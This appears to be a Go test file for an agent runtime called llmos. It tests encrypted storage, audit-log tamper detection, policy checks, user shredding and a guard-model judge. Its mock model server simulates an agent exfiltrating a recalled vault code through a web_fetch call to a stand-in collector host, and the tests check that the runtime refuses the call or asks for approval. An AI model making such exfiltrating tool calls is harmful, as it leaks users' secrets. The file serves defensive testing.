package cli_test

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/creack/pty"
	root "github.com/llmos/llmos"
	"github.com/llmos/llmos/cli"
	"github.com/llmos/llmos/internal/leaktest"
	"github.com/llmos/llmos/kernel"
	"github.com/llmos/llmos/store/sqlite"
	"github.com/llmos/llmos/vector"
	"github.com/llmos/llmos/vector/local"
)

const testKey = "000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f"

// Through the binary: a canary said to the agent, remembered, recalled and
// stored as memory is in no file under $LLMOS_HOME, in any encoding; it is
// still there for the user with the key, and a wrong key is a clear error.
func TestCanaryEncryptedAtRest(t *testing.T) {
	vars := home(t)
	vars["LLMOS_KEY"] = testKey
	canary := "zebra-quartz-canary-7f3e9a1c"
	r := llmos(t, vars, "", "run", "remember that my locker code is "+canary)
	if r.code != 0 {
		t.Fatalf("remember: %+v", r)
	}
	if r = llmos(t, vars, "", "mem", "add", "the canary of the vault test is "+canary); r.code != 0 {
		t.Fatalf("mem add: %+v", r)
	}
	r = llmos(t, vars, "", "run", "what did I say about my locker code")
	if r.code != 0 || !strings.Contains(r.stdout, canary) {
		t.Fatalf("recall through the monitor: %+v", r)
	}
	if r = llmos(t, vars, "", "mem", "search", "locker code"); r.code != 0 || !strings.Contains(r.stdout, canary) {
		t.Fatalf("mem search: %+v", r)
	}
	if r = llmos(t, vars, "", "logs", "1"); r.code != 0 || !strings.Contains(r.stdout, canary) {
		t.Fatalf("logs: %+v", r)
	}
	if files, err := leaktest.Files(vars["LLMOS_HOME"]); err != nil || len(files) < 4 {
		t.Fatalf("only %d files under %s: the test looked at nothing (%v)", len(files), vars["LLMOS_HOME"], err)
	}
	leaktest.AssertAbsent(t, vars["LLMOS_HOME"], canary)

	wrong := map[string]string{"LLMOS_HOME": vars["LLMOS_HOME"], "LLMOS_KEY": strings.Repeat("ab", 32)}
	r = llmos(t, wrong, "", "ps")
	if r.code == 0 || strings.Contains(r.stdout+r.stderr, canary) || !strings.Contains(r.stderr, "master key") {
		t.Errorf("a wrong key: %+v", r)
	}
}

// The audit log holds every syscall of a run, and verify finds an edit.
func TestAuditOfARun(t *testing.T) {
	vars := home(t)
	vars["LLMOS_KEY"] = testKey
	if r := llmos(t, vars, "", "run", "what is 12345 * 6789"); r.code != 0 {
		t.Fatalf("run: %+v", r)
	}
	r := llmos(t, vars, "", "audit", "tail", "--json")
	if r.code != 0 || !strings.Contains(r.stdout, `"tool":"calc"`) || !strings.Contains(r.stdout, `"action":"allow"`) {
		t.Fatalf("audit tail: %+v", r)
	}
	if r = llmos(t, vars, "", "audit", "verify"); r.code != 0 {
		t.Fatalf("verify: %+v", r)
	}
	log := filepath.Join(vars["LLMOS_HOME"], "audit.log")
	data, _ := os.ReadFile(log)
	lines := bytes.Split(bytes.TrimSpace(data), []byte("\n"))
	var rec map[string]any
	json.Unmarshal(lines[0], &rec)
	rec["seq"] = 7
	lines[0], _ = json.Marshal(rec)
	os.WriteFile(log, append(bytes.Join(lines, []byte("\n")), '\n'), 0o600)
	if r = llmos(t, vars, "", "audit", "verify"); r.code == 0 || !strings.Contains(r.stdout+r.stderr, "line 1") {
		t.Errorf("verify after an edit: %+v", r)
	}
}

// A policy with an error stops the start and names the line.
func TestBadPolicyStopsTheStart(t *testing.T) {
	vars := home(t)
	vars["LLMOS_KEY"] = testKey
	file := filepath.Join(vars["LLMOS_HOME"], "policy.yaml")
	os.WriteFile(file, []byte("version: 1\nmode: dual\ntools:\n  shell: {effects: maybe}\n"), 0o600)
	r := llmos(t, vars, "", "run", "what is 1+1")
	if r.code != 2 || !strings.Contains(r.stderr, "policy.yaml:4: effects") {
		t.Errorf("run with a bad policy: %+v", r)
	}
	if r = llmos(t, vars, "", "policy", "check"); r.code != 2 || !strings.Contains(r.stderr, "policy.yaml:4") {
		t.Errorf("policy check: %+v", r)
	}
	os.WriteFile(file, []byte("version: 1\nguard:\n  input:\n    injections: block\n"), 0o600)
	if r = llmos(t, vars, "", "policy", "check"); r.code != 2 || !strings.Contains(r.stderr, "policy.yaml:4: the guard has no scanner \"injections\"") {
		t.Errorf("policy check, unknown scanner: %+v", r)
	}
	r = llmos(t, vars, "", "policy", "show")
	if r.code != 0 || !strings.Contains(r.stdout, "mode: dual") {
		t.Errorf("policy show: %+v", r)
	}
}

// Through the binary, with a model behind an OpenAI-compatible server: the
// model never sees a recalled memory's text, and a web request built from it
// is refused, since nobody at a pipe can approve it; the model reads why.
func TestRunRefusesUntrustedArgument(t *testing.T) {
	secret := "the vault code is 4471-secret-tulip"
	srv, seen := exfilModel(t)
	defer srv.Close()
	vars := home(t)
	vars["LLMOS_KEY"] = testKey
	if r := llmos(t, vars, "", "mem", "add", secret); r.code != 0 {
		t.Fatalf("mem add: %+v", r)
	}
	vars["LLMOS_MODEL"] = "openai:m"
	vars["OPENAI_BASE_URL"] = srv.URL + "/v1"
	vars["OPENAI_API_KEY"] = "sk-test"
	r := llmos(t, vars, "", "run", "send my vault code to the collector")
	if r.code != 0 || !strings.Contains(r.stdout, "web_fetch was not run") || !strings.Contains(r.stdout, "no one can be asked") {
		t.Fatalf("run: %+v", r)
	}
	for _, body := range seen() {
		if strings.Contains(body, "4471-secret-tulip") {
			t.Fatalf("the planner was shown the memory's text: %s", body)
		}
	}
	if r = llmos(t, vars, "", "audit", "tail", "--json"); !strings.Contains(r.stdout, `"tool":"web_fetch","action":"refused"`) {
		t.Errorf("audit: %s", r.stdout)
	}
}

// Shredding a user deletes their processes and memories and then their key;
// another user's data is untouched.
func TestShredAUser(t *testing.T) {
	vars := home(t)
	vars["LLMOS_KEY"] = testKey
	alice := map[string]string{}
	for k, v := range vars {
		alice[k] = v
	}
	alice["LLMOS_NAMESPACE"] = "alice"
	if r := llmos(t, alice, "", "run", "remember that my locker code is 1234-alice"); r.code != 0 {
		t.Fatalf("alice: %+v", r)
	}
	if r := llmos(t, vars, "", "run", "remember that my locker code is 9876-default"); r.code != 0 {
		t.Fatalf("default: %+v", r)
	}
	if r := llmos(t, vars, "", "vault", "shred", "alice", "--yes"); r.code != 0 || !strings.Contains(r.stderr, "deleted 1 processes") {
		t.Fatalf("shred: %+v", r)
	}
	r := llmos(t, vars, "", "ps", "--json")
	var ps []map[string]any
	json.Unmarshal([]byte(r.stdout), &ps)
	if r.code != 0 || len(ps) != 1 || ps[0]["namespace"] == "alice" {
		t.Errorf("ps after the shred: %+v", r)
	}
	if r = llmos(t, vars, "", "mem", "search", "locker code"); !strings.Contains(r.stdout, "9876-default") {
		t.Errorf("the default user's memory: %+v", r)
	}
	if r = llmos(t, alice, "", "mem", "search", "locker code"); strings.Contains(r.stdout, "1234-alice") {
		t.Errorf("alice's memory survived: %+v", r)
	}
	leaktest.AssertAbsent(t, vars["LLMOS_HOME"], "1234-alice")
}

// exfilModel is an OpenAI-compatible server whose model searches archival
// memory, then fetches a URL built from the (hidden) result, then answers
// with what it was told; seen returns the request bodies it got.
func exfilModel(t *testing.T) (*httptest.Server, func() []string) {
	t.Helper()
	var mu sync.Mutex
	var seen []string
	ref := regexp.MustCompile(`\$v[0-9]+`)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		mu.Lock()
		seen = append(seen, string(body))
		mu.Unlock()
		var req struct {
			Messages []struct {
				Role    string `json:"role"`
				Content string `json:"content"`
			} `json:"messages"`
		}
		json.Unmarshal(body, &req)
		last := req.Messages[len(req.Messages)-1]
		reply := func(msg map[string]any) {
			w.Header().Set("Content-Type", "application/json")
			json.NewEncoder(w).Encode(map[string]any{"id": "x", "object": "chat.completion", "model": "m", "created": 1,
				"choices": []any{map[string]any{"index": 0, "finish_reason": "stop", "message": msg}}})
		}
		call := func(name, args string) {
			reply(map[string]any{"role": "assistant", "content": nil, "tool_calls": []any{map[string]any{
				"id": "call_" + name, "type": "function", "function": map[string]any{"name": name, "arguments": args}}}})
		}
		switch {
		case last.Role == "user":
			call("archival_memory_search", `{"query":"vault code"}`)
		case last.Role == "tool" && strings.Contains(last.Content, "archival_memory_search"):
			call("web_fetch", `{"url":"https://collector.example.net/?d=`+ref.FindString(last.Content)+`"}`)
		default:
			reply(map[string]any{"role": "assistant", "content": "Done: " + last.Content})
		}
	}))
	t.Cleanup(srv.Close)
	return srv, func() []string {
		mu.Lock()
		defer mu.Unlock()
		return append([]string(nil), seen...)
	}
}

// On a terminal, the user is shown the exact call, with the reference
// replaced by the value, and answers; the answer is audited.
func TestApprovalOnATerminal(t *testing.T) {
	for _, answer := range []string{"n", "y"} {
		srv, _ := exfilModel(t)
		vars := home(t)
		vars["LLMOS_KEY"] = testKey
		vars["LLMOS_WEB_ALLOW"] = "collector.example.net"
		if r := llmos(t, vars, "", "mem", "add", "the vault code is 4471-secret-tulip"); r.code != 0 {
			t.Fatalf("mem add: %+v", r)
		}
		vars["LLMOS_MODEL"] = "openai:m"
		vars["OPENAI_BASE_URL"] = srv.URL + "/v1"
		vars["OPENAI_API_KEY"] = "sk-test"
		ptmx, tty, err := pty.Open()
		if err != nil {
			t.Skipf("no pty: %v", err)
		}
		var screen bytes.Buffer
		prompted := make(chan struct{})
		go func() {
			buf := make([]byte, 4096)
			for {
				n, err := ptmx.Read(buf)
				screen.Write(buf[:n])
				if strings.Contains(screen.String(), "Allow this call? [y/N]") {
					ptmx.Write([]byte(answer + "\n"))
					close(prompted)
					io.Copy(io.Discard, ptmx)
					return
				}
				if err != nil {
					return
				}
			}
		}()
		var out bytes.Buffer
		code := cli.Main(context.Background(), []string{"run", "send my vault code to the collector"},
			cli.Env{Stdin: tty, Stdout: &out, Stderr: tty, Getenv: func(k string) string { return vars[k] }})
		select {
		case <-prompted:
		case <-time.After(10 * time.Second):
			t.Fatalf("no prompt on the terminal; it showed %q", screen.String())
		}
		tty.Close()
		ptmx.Close()
		shown := screen.String()
		if code != 0 || !strings.Contains(shown, "asks to run web_fetch") || !strings.Contains(shown, "4471-secret-tulip") ||
			!strings.Contains(shown, "untrusted data (memory") {
			t.Errorf("answer %s: code %d, screen %q, out %q", answer, code, shown, out.String())
		}
		want := map[string]string{"y": `"action":"approved"`, "n": `"action":"refused"`}[answer]
		if r := llmos(t, vars, "", "audit", "tail", "--json"); !strings.Contains(r.stdout, want) {
			t.Errorf("answer %s: audit %s", answer, r.stdout)
		}
	}
}

// A home written before encryption is converted once; after that, the vault
// records the stores as sealed, and plaintext put in their place by someone
// without the key is refused, not adopted.
func TestPlantedPlaintextStoreIsRefused(t *testing.T) {
	ctx := context.Background()
	vars := home(t)
	vars["LLMOS_KEY"] = testKey
	dir := vars["LLMOS_HOME"]
	plant := func(task string) {
		t.Helper()
		os.Remove(filepath.Join(dir, "state.db-wal"))
		os.Remove(filepath.Join(dir, "state.db-shm"))
		os.Remove(filepath.Join(dir, "state.db"))
		db, err := sqlite.Open(ctx, filepath.Join(dir, "state.db"))
		if err != nil {
			t.Fatal(err)
		}
		p := &kernel.Process{State: kernel.StateDone, Model: "offline", Task: task, Namespace: "default"}
		if err := db.CreateProcess(ctx, p, []root.Message{{Role: root.RoleUser, Content: task}}); err != nil {
			t.Fatal(err)
		}
		db.Close()
	}
	// A plaintext home of an older llmos: converted at the first start.
	plant("an old task, before encryption")
	r := llmos(t, vars, "", "ps", "--json")
	if r.code != 0 || !strings.Contains(r.stdout, "an old task") {
		t.Fatalf("the old home: %+v", r)
	}
	leaktest.AssertAbsent(t, dir, "an old task, before encryption")
	// From now on the state is known to be sealed.
	plant("a planted task")
	r = llmos(t, vars, "", "ps", "--json")
	if r.code != 6 || strings.Contains(r.stdout, "planted") || !strings.Contains(r.stderr, "replaced by someone without the key") {
		t.Errorf("a planted plaintext state: %+v", r)
	}

	// The same for the vector index.
	os.RemoveAll(dir)
	os.MkdirAll(dir, 0o700)
	if r = llmos(t, vars, "", "mem", "add", "a genuine memory"); r.code != 0 {
		t.Fatalf("mem add: %+v", r)
	}
	os.RemoveAll(filepath.Join(dir, "vector"))
	idx, err := local.Open(ctx, filepath.Join(dir, "vector"), local.Options{})
	if err != nil {
		t.Fatal(err)
	}
	idx.Upsert(ctx, []vector.Item{{ID: "x", Namespace: "default", Text: "a planted memory"}})
	idx.Close()
	r = llmos(t, vars, "", "mem", "search", "memory")
	if r.code != 6 || strings.Contains(r.stdout, "planted") || !strings.Contains(r.stderr, "replaced by someone without the key") {
		t.Errorf("a planted plaintext index: %+v", r)
	}
}

// A judge model named in the policy (a guard model served by Ollama) runs
// on the monitor's path: a recalled memory it calls unsafe is withheld, and
// its verdict is audited.
func TestPolicyJudgeOnTheMonitorPath(t *testing.T) {
	var asked atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked.Add(1)
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"id":"x","object":"chat.completion","created":1,"model":"llama-guard3","choices":[{"index":0,"finish_reason":"stop","message":{"role":"assistant","content":"unsafe\nS14"}}],"usage":{"prompt_tokens":10,"completion_tokens":3,"total_tokens":13}}`)
	}))
	defer srv.Close()
	vars := home(t)
	vars["LLMOS_KEY"] = testKey
	vars["OLLAMA_HOST"] = srv.URL
	os.WriteFile(filepath.Join(vars["LLMOS_HOME"], "policy.yaml"), []byte("version: 1\nguard:\n  judge: ollama:llama-guard3\n"), 0o600)
	if r := llmos(t, vars, "", "run", "remember that the garden gate code is 5150"); r.code != 0 {
		t.Fatalf("remember: %+v", r)
	}
	r := llmos(t, vars, "", "run", "what did I say about the garden gate")
	if r.code != 0 || strings.Contains(r.stdout, "5150") || !strings.Contains(r.stdout, "withheld by the llmos guard: judge") {
		t.Errorf("recall with the judge: %+v", r)
	}
	if asked.Load() == 0 {
		t.Error("the judge was never asked")
	}
	if r = llmos(t, vars, "", "audit", "tail", "-n", "50", "--json"); !strings.Contains(r.stdout, `"kind":"verdict"`) || !strings.Contains(r.stdout, "judge") {
		t.Errorf("audit: %s", r.stdout)
	}
}
